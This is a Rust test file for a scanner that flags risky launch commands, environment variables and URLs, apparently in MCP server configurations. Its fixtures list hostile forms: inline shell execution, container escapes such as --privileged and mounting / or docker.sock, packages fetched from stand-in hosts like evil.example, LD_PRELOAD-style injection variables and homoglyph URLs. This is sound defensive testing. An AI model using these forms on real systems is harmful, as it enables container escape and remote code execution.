//! Command lines, variables and addresses, and the forms in them that are marked.

use super::*;

/// Checks which forms of a command line are marked; its words are separated by `|`.
#[track_caller]
fn check(line: &str, expected: &[&str]) {
    let mut words = line.split('|').map(str::to_owned);
    let command = words.next().unwrap();
    let reach = Reach::Launch {
        command,
        args: words.collect(),
        env: Vec::new(),
        cwd: None,
    };
    let found = dangers(&reach, Some(Path::new("/shop")));
    let forms: Vec<_> = found.iter().map(|danger| danger.form.as_str()).collect();
    assert_eq!(forms, expected, "{line}");
}

#[test]
fn an_ordinary_server_is_not_marked() {
    for line in [
        "uvx|mcp-server-time",
        "npx|-y|@modelcontextprotocol/server-filesystem@2025.1.1|/home/ann/notes",
        "npx|-y|mcp-remote|https://docs.example/mcp",
        "npx|-y|some-mcp|-c|settings.json",
        "python|/opt/server.py|-c|settings.json",
        "python3|-m|mcp_server|-c|settings.json",
        "node|/opt/server/index.js|--eval-timeout|3",
        "docker|run|-i|--rm|-e|TOKEN|-v|data:/data|--network|none|acme/server:1",
        "uv|tool|run|server",
        "x|http://127.0.0.1:8000/mcp|http://localhost/|http://[::1]:1/",
    ] {
        check(line, &[]);
    }
}

#[test]
fn a_program_within_the_command_line_is_marked() {
    check("sh|-c|touch /tmp/x", &["sh -c"]);
    check("/bin/bash|-lc|x", &["bash -lc"]);
    check("bash|-o|pipefail|-c|x", &["bash -c"]);
    check("env|A=1|zsh|-c|x", &["zsh -c"]);
    check("env|-S|sh -c x", &["env -S"]);
    check("npx|-y|-c|touch x|evil", &["npx -c"]);
    check("npx|--call=touch x", &["npx --call"]);
    check("npx|--cal|touch x", &["npx --cal"]);
    check("npm|exec|-c|x", &["npm -c"]);
    check("node|-e|x", &["node -e"]);
    check(
        "node|--import|data:text/javascript,x|a.js",
        &["node --import", "a.js"],
    );
    check("python3.12|-W|ignore|-c|x", &["python -c"]);
    check("python|-Ic|x", &["python -Ic"]);
    check("uv|run|python|-c|x", &["python -c", "uv run"]);
    check("perl|-e|x", &["perl -e"]);
    check("deno|eval|x", &["deno eval"]);
    check("pwsh|-NoProfile|-enc|x", &["pwsh -enc"]);
    check("cmd.exe|/c|x", &["cmd /c"]);
    check("osascript|-e|x", &["osascript -e"]);
    check("find|.|-exec|x|;", &["find -exec"]);
    check("sudo|x", &["sudo"]);
    check("busybox|sh|-c|x", &["sh -c"]);
    check("awk|BEGIN{system(\"x\")}", &["awk"]);
    check("npx|-y|tsx|-e|x", &["tsx -e"]);
    check("uvx|python|-c|x", &["python -c"]);
    check("timeout|5|sh|-c|x", &["sh -c"]);
    check("${NONE:-sh}|${NONE:--c}|x", &["${NONE:-sh}", "sh -c"]);
    check("${SHELL}|x", &["${SHELL}"]);
    check("make|serve", &["make"]);
    check("npm|run|serve", &["npm run"]);
    check("python|server.py", &["server.py"]);
    check("./run|a", &["./run"]);
    check("node|/shop/server.js", &["/shop/server.js"]);
    check("env|LD_PRELOAD=/x|a", &["LD_PRELOAD"]);
}

#[test]
fn ways_out_of_a_container_are_marked() {
    check("docker|run|--privileged|x", &["--privileged"]);
    check("docker|run|--privileged=false|x", &[]);
    check("docker|run|-v|/:/host|x", &["-v /:/host"]);
    check("docker|run|-v/:/host|x", &["-v /:/host"]);
    check("podman|run|-itv|~/.ssh:/k|x", &["-itv ~/.ssh:/k"]);
    check("docker|run|--volume=${HOME}:/h|x", &["--volume ${HOME}:/h"]);
    check(
        "docker|run|--mount|type=bind,src=/,dst=/h|x",
        &["--mount type=bind,src=/,dst=/h"],
    );
    check(
        "docker|run|--mount=src=/etc,dst=/h|x",
        &["--mount src=/etc,dst=/h"],
    );
    check("docker|run|--mount|type=volume,src=data,dst=/h|x", &[]);
    check("docker|run|--network|host|x", &["--network host"]);
    check("docker|run|--net=host|x", &["--net host"]);
    check(
        "docker|run|--pid|host|--ipc=host|x",
        &["--pid host", "--ipc host"],
    );
    check(
        "docker|run|--device|/dev/sda|--cap-add=ALL|x",
        &["--device /dev/sda", "--cap-add ALL"],
    );
    check(
        "docker|run|--security-opt|seccomp=unconfined|x",
        &["--security-opt seccomp=unconfined"],
    );
    check(
        "docker|run|-v|/var/run/docker.sock:/var/run/docker.sock|x",
        &[
            "-v /var/run/docker.sock:/var/run/docker.sock",
            "/var/run/docker.sock:/var/run/docker.sock",
        ],
    );
    check("sudo|docker|run|--privileged|x", &["sudo", "--privileged"]);
}

#[test]
fn packages_from_elsewhere_are_marked() {
    check(
        "npx|-y|https://evil.example/x.tgz",
        &["https://evil.example/x.tgz"],
    );
    check("npx|mallory/evil", &["mallory/evil"]);
    check("npx|-p|github:mallory/evil|evil", &["github:mallory/evil"]);
    check("npx|good@npm:evil", &["good@npm:evil"]);
    check(
        "npx|--registry=https://evil.example|x",
        &["--registry", "https://evil.example"],
    );
    check("bunx|git+ssh://x/y", &["git+ssh://x/y"]);
    check(
        "uvx|--from|git+https://evil.example/x|x",
        &["git+https://evil.example/x"],
    );
    check(
        "uvx|--index-url|https://evil.example|x",
        &["--index-url", "https://evil.example"],
    );
    check(
        "uvx|--with|x @ https://evil.example|y",
        &["x @ https://evil.example"],
    );
    check("pipx|run|--spec|/tmp/x.whl|x", &["/tmp/x.whl"]);
    check(
        "deno|run|-A|https://evil.example/x.ts",
        &["deno run", "-A", "https://evil.example/x.ts"],
    );
    check("npx|-y|./evil", &["./evil"]);
    check("x|http://evil.example/", &["http://evil.example/"]);
    check(
        "x|--url=HTTP://localhost.evil.example/",
        &["HTTP://localhost.evil.example/"],
    );
    check("x|a\u{202e}b", &["a\\u{202e}b"]);
}

#[test]
fn variables_that_control_a_program_are_marked() {
    for name in [
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "DYLD_INSERT_LIBRARIES",
        "PATH",
        "Path",
        "NODE_OPTIONS",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "BASH_ENV",
        "ENV",
        "GIT_SSH_COMMAND",
        "GIT_CONFIG_COUNT",
        "npm_config_registry",
        "PIP_INDEX_URL",
        "UV_DEFAULT_INDEX",
        "https_proxy",
        "SSL_CERT_FILE",
        "PERL5OPT",
        "RUBYOPT",
        "JAVA_TOOL_OPTIONS",
        "DOCKER_HOST",
        "HOME",
        "DOTNET_STARTUP_HOOKS",
        "BASH_FUNC_x%%",
        "EDITOR",
        "NODE_TLS_REJECT_UNAUTHORIZED",
    ] {
        assert!(variable::danger(name).is_some(), "{name}");
    }
    for name in [
        "TOKEN",
        "API_KEY",
        "PATHS",
        "NODE_ENV",
        "PYTHONUNBUFFERED",
        "GITHUB_TOKEN",
        "DEBUG",
        "UVICORN_PORT",
    ] {
        assert!(variable::danger(name).is_none(), "{name}");
    }
}

#[test]
fn an_address_that_misleads_or_is_read_by_others_is_marked() {
    for (url, expected) in [
        ("https://docs.example/mcp", 0),
        ("http://127.0.0.1:3000/mcp", 0),
        ("http://docs.example/mcp", 1),
        ("https://github.com@evil.example/mcp", 1),
        ("https://docs.exam\u{440}le/mcp", 1),
        ("https://${HOST}/mcp", 1),
    ] {
        let reach = Reach::Remote {
            url: url.to_owned(),
            transport: None,
            headers: Vec::new(),
        };
        assert_eq!(dangers(&reach, None).len(), expected, "{url}");
    }
}
